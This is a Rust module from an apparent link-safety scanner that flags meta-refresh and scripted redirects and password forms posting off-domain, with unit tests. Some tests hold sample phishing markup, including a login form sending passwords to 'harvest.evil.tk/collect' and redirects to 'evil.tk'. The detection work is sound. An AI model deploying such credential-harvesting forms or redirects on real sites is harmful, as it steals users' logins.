//! Best-effort content inspection of the final response body
//!
//! Regex scans, not HTML parsing: the page is at most 256 KB and the
//! signals of interest (meta refresh, scripted redirects, credential
//! forms posting off-domain) are keyword-shaped. Form/password matching
//! is page-scoped rather than element-scoped.

use linkguard_url_core::normalize;
use regex::Regex;
use std::sync::OnceLock;

use crate::flags;

fn meta_refresh_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r#"(?i)<meta[^>]+http-equiv\s*=\s*["']?refresh"#).unwrap()
    })
}

fn js_redirect_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(
            r#"(?i)(?:window\.location|document\.location|location\.href|location\.replace)\s*[=(]"#,
        )
        .unwrap()
    })
}

fn password_input_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r#"(?i)<input[^>]+type\s*=\s*["']?password"#).unwrap())
}

fn form_action_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r#"(?i)<form[^>]+action\s*=\s*["']([^"'\s>]+)"#).unwrap())
}

/// Scan a response body for redirect and credential-harvesting signals.
///
/// `page_registered_domain` is the registered domain of the page that
/// served the body, used to spot forms posting to a foreign host.
pub fn inspect(body: &str, page_registered_domain: &str) -> Vec<String> {
    let mut out = Vec::new();

    if meta_refresh_re().is_match(body) {
        out.push(flags::META_REFRESH.to_string());
    }
    if js_redirect_re().is_match(body) {
        out.push(flags::JS_REDIRECT.to_string());
    }

    if password_input_re().is_match(body) {
        out.push(flags::LOGIN_FORM.to_string());
        if any_form_posts_elsewhere(body, page_registered_domain) {
            out.push(flags::LOGIN_ON_NONDOMAIN.to_string());
        }
    }

    out
}

/// True when any form action resolves to a different registered domain.
/// Relative actions stay on the page host and never trigger.
fn any_form_posts_elsewhere(body: &str, page_registered_domain: &str) -> bool {
    form_action_re().captures_iter(body).any(|cap| {
        let action = &cap[1];
        match normalize(action) {
            Ok(target) if action.contains("://") => {
                !target
                    .registered_domain
                    .eq_ignore_ascii_case(page_registered_domain)
            }
            _ => false,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_meta_refresh() {
        let body = r#"<head><meta http-equiv="refresh" content="0;url=http://evil.tk/"></head>"#;
        let flags = inspect(body, "example.com");
        assert!(flags.contains(&"meta_refresh".to_string()));
    }

    #[test]
    fn test_js_redirect() {
        for body in [
            r#"<script>window.location = "http://evil.tk";</script>"#,
            r#"<script>location.href="/next"</script>"#,
            r#"<script>location.replace("http://x.example")</script>"#,
        ] {
            assert!(
                inspect(body, "example.com").contains(&"js_redirect".to_string()),
                "{}",
                body
            );
        }
    }

    #[test]
    fn test_login_form_same_domain() {
        let body = r#"<form action="/session" method="post">
                        <input type="password" name="pw"></form>"#;
        let flags = inspect(body, "example.com");
        assert!(flags.contains(&"login_form".to_string()));
        assert!(!flags.contains(&"login_on_nondomain".to_string()));
    }

    #[test]
    fn test_login_form_cross_domain() {
        let body = r#"<form action="https://harvest.evil.tk/collect" method="post">
                        <input type="password" name="pw"></form>"#;
        let flags = inspect(body, "example.com");
        assert!(flags.contains(&"login_form".to_string()));
        assert!(flags.contains(&"login_on_nondomain".to_string()));
    }

    #[test]
    fn test_same_registered_domain_subdomain_ok() {
        let body = r#"<form action="https://auth.example.com/login">
                        <input type="password"></form>"#;
        let flags = inspect(body, "example.com");
        assert!(!flags.contains(&"login_on_nondomain".to_string()));
    }

    #[test]
    fn test_clean_page() {
        let body = "<html><body><h1>Docs</h1></body></html>";
        assert!(inspect(body, "example.com").is_empty());
    }

    #[test]
    fn test_inspection_idempotent() {
        let body = r#"<meta http-equiv=refresh content="1"><input type=password>"#;
        assert_eq!(inspect(body, "a.com"), inspect(body, "a.com"));
    }
}
